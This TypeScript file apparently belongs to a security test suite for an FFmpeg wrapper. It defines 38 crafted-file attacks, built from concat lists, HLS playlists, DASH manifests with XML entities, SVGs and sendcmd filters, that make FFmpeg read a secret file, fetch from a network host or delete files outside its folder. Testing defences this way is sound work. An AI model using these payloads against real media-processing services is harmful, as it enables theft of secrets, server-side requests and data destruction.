import type { AttackTargets } from '../attack-commands.ts'
import {
  assetMap,
  concatList,
  entityOf,
  playlist,
  readPlaylist,
  session,
  svg,
} from '../crafted-files.ts'
import { words } from './attacks.ts'
import type { Attack } from './attacks.ts'

export interface ContentAttack extends Attack {
  /** Files with which the same command is harmless and has to work. */
  readonly twin?: Readonly<Record<string, string>>
}

/** Outside, as media: the samples of a WAV, and the words of an SRT, are the canary. */
export interface SecretMedia {
  readonly sound: string
  readonly subtitles: string
}

/** Files that make FFmpeg open others, or delete them: no parser of command lines can see them. */
export function attacksByContent(targets: AttackTargets, media: SecretMedia): ContentAttack[] {
  const { secret, outside, outsideRelative, host } = targets
  const secretSound = media.sound
  const relative = `../..${secretSound}`
  const anyProtocol = 'protocol_whitelist file,http,tcp,subfile,concat,crypto,data,async'
  const byList = (name: string, member: string, ...options: string[]): Attack =>
    attack(name, '-f concat -safe 0 -i X -map 0 -c copy -f data o.bin', {
      'list.txt': concatList(member, ...options),
    })
  const bySegment = (name: string, segment: string, ...tags: string[]): Attack =>
    attack(name, reading, { 'list.m3u8': playlist(...tags, '#EXTINF:9,', segment) })
  const web = playlist('#EXTINF:9,', `http://${host}/a.ts`)
  return [
    byList('C01 absolute member', secretSound),
    byList('C02 member by protocol', `file:${secretSound}`, anyProtocol),
    byList('C03 member above', relative),
    byList('C04 member of a member', `subfile,,start,0,end,4000,,:${secretSound}`, anyProtocol),
    byList('C05 joined member', `concat:${secretSound}`, anyProtocol),
    byList('C06 member on the network', `http://${host}/a.wav`, anyProtocol),
    attack(
      'C07 second member on the network',
      '-f concat -safe 0 -i X -map 0 -c copy -f data o.bin',
      {
        'list.txt': `${concatList('in.mp4')}file 'http://${host}/b.mp4'\noption ${anyProtocol}\n`,
      },
    ),
    attack('C08 list under a video name', '-safe 0 -i X -map 0 -c copy -f data o.bin', {
      'list.mp4': concatList(secretSound),
    }),
    attack('C09 list by a filter', '-f lavfi -i amovie=X:f=concat:format_opts=safe=0 -f u8 o.bin', {
      'list.txt': concatList(secretSound),
    }),
    bySegment('C10 segment by protocol', `file://${secretSound}`),
    bySegment('C11 segment by absolute path', secretSound),
    bySegment('C12 segment above', relative),
    bySegment('C13 segment on the network', `http://${host}/a.ts`),
    bySegment('C14 segment behind a cipher', `crypto+http://${host}/a.ts`),
    bySegment('C15 key on the network', 'in.ts', keyAt(`http://${host}/k`)),
    bySegment('C16 key of a file', 'in.ts', keyAt(`file://${secret}`)),
    bySegment('C17 initialisation on the network', 'in.ts', `#EXT-X-MAP:URI="http://${host}/i"`),
    attack('C18 variant on the network', reading, {
      'list.m3u8': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://${host}/v.m3u8\n`,
    }),
    attack('C19 sound track on the network', reading, {
      'list.m3u8': `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,URI="http://${host}/a.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\nin.m3u8\n`,
    }),
    attack('C20 playlist under a video name', reading, { 'list.mp4': web }),
    attack(
      'C21 playlist with its own white list',
      `-protocol_whitelist file,http,tcp,crypto ${reading}`,
      { 'list.m3u8': web },
    ),
    attack(
      'C22 playlist by a filter',
      "-f lavfi -i 'movie=X:format_opts=protocol_whitelist=file\\\\,http\\\\,tcp' -frames:v 1 -f rawvideo o.bin",
      { 'list.m3u8': web },
    ),
    attack(
      'C23 manifest with a base on the network',
      '-protocol_whitelist file,http,tcp -i X -map 0 -c copy -f data o.bin',
      { 'list.mpd': dash(`http://${host}/`, 'a.mp4') },
    ),
    attack('C24 manifest with a base of files', '-i X -map 0 -c copy -f data o.bin', {
      'list.mpd': dash('file:///app/', 'secret.wav'),
    }),
    attack('C25 manifest with an entity', '-i X -map 0 -c copy -f data o.bin', {
      'list.mpd': `${entityOf(secret)}${dash('', '&e;')}`,
    }),
    attack('C26 manifest with a definition on the network', '-i X -map 0 -c copy -f data o.bin', {
      'list.mpd': `<!DOCTYPE x SYSTEM "http://${host}/x.dtd">${dash('', 'a.mp4')}`,
    }),
    attack('C27 drawing with a picture', '-i X -frames:v 1 -f rawvideo o.bin', {
      'a.svg': svg(`<image xlink:href="http://${host}/a.png" width="9" height="9"/>`),
    }),
    attack('C28 drawing with a text of a file', '-i X -frames:v 1 -f rawvideo o.bin', {
      'a.svg': `${entityOf(secret)}${svg('<text y="9">&e;</text>')}`,
    }),
    attack('C29 session on the network', '-i X -f null -', {
      'a.sdp': session(host.split(':')[1] ?? ''),
    }),
    attack(
      'C30 composition on the network',
      '-protocol_whitelist file,http,tcp -f imf -assetmaps X -i cpl.xml -f null -',
      {
        'map.xml': assetMap(`http://${host}/a.mxf`),
      },
    ),
    attack(
      'C31 commands to a filter',
      `-i in.mp4 -vf sendcmd=f=X,drawtext=textfile=empty.txt:fontfile=${font} -frames:v 1 -f md5 o.md5`,
      { 'commands.txt': `0.0 drawtext reinit textfile=${secret};\n` },
    ),
    attack('C32 subtitles that are a list', '-i in.mp4 -vf subtitles=X -f null -', {
      'a.srt': concatList(`http://${host}/s.srt`, anyProtocol),
    }),
    attack(
      'C33 playlist that an absolute file is deleted for',
      deleting,
      { 'old.m3u8': endless(`${outside}/kept.ts`, ...named) },
      { 'old.m3u8': endless('own.ts', ...named), 'own.ts': 'old' },
    ),
    attack('C34 playlist that a file above is deleted for', deleting, {
      'old.m3u8': endless(`${outsideRelative}/kept.ts`, ...named),
    }),
    attack(
      'C35 playlist that a request is sent for',
      deleting.replace('-f hls', '-f hls -method DELETE'),
      { 'old.m3u8': endless(`http://${host}/x.ts`, ...named) },
    ),
    attack(
      'C36 playlist in a playlist',
      reading.replace('-map 0', '-map 0:0'),
      {
        'list.m3u8': '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv.m3u8\n',
        'v.m3u8': playlist('#EXTINF:9,', secretSound),
      },
      { 'v.m3u8': playlist('#EXTINF:9,', 'in.ts') },
    ),
    attack(
      'C37 composition with its map beside it',
      '-strict experimental -protocol_whitelist file,http,tcp -i X -map 0 -c copy -f data o.bin',
      { 'cpl.xml': composition, 'ASSETMAP.xml': compositionMap(`http://${host}/x.wav`) },
    ),
    attack(
      'C38 subtitles that are a list, as an input',
      '-safe 0 -i X -c copy -f srt o.bin',
      { 'a.srt': concatList(media.subtitles) },
      { 'a.srt': concatList('in.srt') },
    ),
  ]
}

const font = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf'
const reading = `${readPlaylist} -i X -map 0 -c copy -f data o.bin`
const keyAt = (url: string): string => `#EXT-X-KEY:METHOD=AES-128,URI="${url}"`

/** Appends to a playlist and deletes the file of its first line; without folders by date FFmpeg takes only the names. */
const deleting =
  '-i in.mp4 -c:v mpeg2video -an -f hls -hls_time 0.1 -hls_list_size 1 -hls_delete_threshold 1 -strftime 1 -strftime_mkdir 1 -hls_segment_filename s%s.ts -hls_flags append_list+delete_segments X'
const named = ['a2.ts', 'a3.ts', 'a4.ts']

type Files = Readonly<Record<string, string>>

/**
 * @param command `X` stands for the first of the files
 * @param twin the same files, but harmless
 */
function attack(name: string, command: string, files: Files, twin?: Files): ContentAttack {
  const written = command.replace('X', Object.keys(files)[0] ?? '')
  const made = { name, command: written, argv: words(written), files }
  return twin === undefined ? made : { ...made, twin: { ...files, ...twin } }
}

function dash(base: string, media: string): string {
  return `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="0" bandwidth="1"><BaseURL>${base}${media}</BaseURL><SegmentList duration="3"><SegmentURL media="${media}"/></SegmentList></Representation></AdaptationSet></Period></MPD>`
}

function endless(...names: string[]): string {
  const head = ['#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:1', '#EXT-X-MEDIA-SEQUENCE:0']
  return [...head, ...names.flatMap((name) => ['#EXTINF:0.1,', name]), ''].join('\n')
}

function compositionMap(path: string): string {
  return `<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Id>urn:uuid:00000000-0000-0000-0000-000000000001</Id><AssetList><Asset><Id>urn:uuid:00000000-0000-0000-0000-000000000002</Id><ChunkList><Chunk><Path>${path}</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>`
}

/** Composition of one track, whose file the map beside it names. */
const composition =
  '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:00000000-0000-0000-0000-000000000003</Id><ContentTitle>x</ContentTitle><EditRate>24 1</EditRate><SegmentList><Segment><Id>urn:uuid:00000000-0000-0000-0000-000000000004</Id><SequenceList><cc:MainAudioSequence xmlns:cc="http://www.smpte-ra.org/ns/2067-2/2020"><Id>urn:uuid:00000000-0000-0000-0000-000000000005</Id><TrackId>urn:uuid:00000000-0000-0000-0000-000000000006</TrackId><ResourceList><Resource xsi:type="TrackFileResourceType" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><Id>urn:uuid:00000000-0000-0000-0000-000000000007</Id><EditRate>48000 1</EditRate><IntrinsicDuration>1000</IntrinsicDuration><TrackFileId>urn:uuid:00000000-0000-0000-0000-000000000002</TrackFileId></Resource></ResourceList></cc:MainAudioSequence></SequenceList></Segment></SegmentList></CompositionPlaylist>'
